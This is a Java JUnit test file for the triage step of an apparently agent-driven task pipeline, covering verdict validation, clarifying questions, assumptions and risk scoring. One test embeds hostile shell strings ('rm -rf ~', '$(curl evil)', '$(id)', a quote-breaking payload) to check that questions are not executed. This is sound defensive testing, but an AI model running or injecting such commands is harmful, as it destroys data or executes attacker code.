package org.jvmfactory.steps;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.jvmfactory.config.ConfigNode;
import org.jvmfactory.task.Question;
import org.jvmfactory.task.StepPath;
import org.jvmfactory.task.StepResult;
import org.jvmfactory.task.TaskRequest;
import org.jvmfactory.task.Wait;

/** 4.2 and 4.6: results of a triage that say too little, too much, or something else than they should. */
class TriageEdgesTest {

    private static final String UNCLEAR =
            "{\"verdict\":\"unclear\",\"confidence\":0.9,\"reason\":\"It isn't said.\",\"risk\":\"low\",\"complexity\":\"low\"%s}";

    private final FakeContext context = new FakeContext();

    @BeforeEach
    void a_task_came_in() {
        context.agent("triager");
        context.path = StepPath.of("triage", 1);
    }

    /** The seed dispatched nothing and asked nothing: the issue stalled. */
    @ParameterizedTest
    @ValueSource(strings = {"null", "\"\"", "\"Clear\"", "\"maybe\"", "true"})
    void a_verdict_that_is_none_is_asked_about(String verdict) throws Exception {
        context.gives(UNCLEAR.formatted("").replace("\"unclear\"", verdict));

        assertThat(execute()).isInstanceOf(StepResult.Waits.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                ",\"question\":null,\"assumption\":null",
                ",\"question\":\"\",\"assumption\":\"  \"",
                ",\"question\":7,\"assumption\":[\"Net.\"]"
            })
    void an_unclear_task_without_a_question_is_asked_about_in_general_and_assumes_nothing(String more)
            throws Exception {
        context.gives(UNCLEAR.formatted(more));

        String text = question().text();

        assertThat(text)
                .isEqualTo("What exactly is wanted, and how would one see that it is done?\n\n"
                        + "Why this is asked: It isn't said.");
    }

    /** 4.4: "re-add the label to accept the assumption". What it would answer stands in the question, also where that has no end. */
    @Test
    void an_assumption_can_be_accepted_by_marking_the_ticket_anew_and_never_counts_by_itself() throws Exception {
        context.gives(UNCLEAR.formatted(",\"question\":\"Net or gross?\",\"assumption\":\"Net.\""));

        StepResult.Waits waits = (StepResult.Waits) execute();

        Question question = ((Wait.ForAnswer) waits.on()).question();
        assertThat(question.expiresAt()).isEmpty();
        assertThat(question.fallback()).contains("assume");
        context.answered(waits, question.fallback().orElseThrow());
        assertThat(execute().outputs()).containsEntry("assumption", "Net.");
        assertThat(context.assignments).hasSize(1);
    }

    @Test
    void without_an_assumption_marking_the_ticket_anew_answers_nothing() throws Exception {
        context.gives(UNCLEAR.formatted(",\"question\":\"Net or gross?\""));

        assertThat(question().fallback()).isEmpty();
    }

    /** Theirs went into a shell, where lines got lost and commands ran. */
    @Test
    void a_question_of_many_lines_and_commands_arrives_as_it_is() throws Exception {
        String hostile = "One of:\\n- `rm -rf ~`\\n- $(curl evil)\\n- \\\"'; exit 1\\nEOF";
        context.gives(UNCLEAR.formatted(",\"question\":\"" + hostile + "\",\"assumption\":\"$(id)\""));

        assertThat(question().text())
                .startsWith("One of:\n- `rm -rf ~`\n- $(curl evil)\n- \"'; exit 1\nEOF\n\n")
                .contains("this would be assumed: $(id)");
    }

    @Test
    void a_question_has_an_end() throws Exception {
        context.gives(UNCLEAR.formatted(",\"question\":\"" + "x".repeat(100_000) + "\""));

        assertThat(question().text()).hasSizeLessThan(5_000);
    }

    @Test
    void a_result_cannot_be_without_verdict_sureness_reason_risk_and_complexity() throws Exception {
        JsonNode schema = new ObjectMapper().readTree(Triage.SCHEMA);
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(name -> required.add(name.asText()));

        assertThat(required).containsExactlyInAnyOrder("verdict", "confidence", "reason", "risk", "complexity");
        assertThat(schema.at("/properties/verdict/enum")).hasSize(3);
    }

    /** Theirs took "author", "capital" and "tokenise" for risks, and by another list where the ticket came from elsewhere. */
    @Test
    void words_of_the_task_decide_neither_risk_nor_complexity() throws Exception {
        context.request = TaskRequest.builder("https://example.org/shop.git", "Tokenise the author's capital: security")
                .description("password secret schema migration ".repeat(40))
                .build();
        context.gives(UNCLEAR.formatted("").replace("unclear", "clear"));

        Map<String, String> outputs = execute().outputs();

        assertThat(outputs).containsEntry("risk", "low").containsEntry("complexity", "low");
    }

    private Question question() throws InterruptedException {
        return ((Wait.ForAnswer) ((StepResult.Waits) execute()).on()).question();
    }

    private StepResult execute() throws InterruptedException {
        return new TriageStepProvider().create(ConfigNode.empty()).execute(context);
    }
}
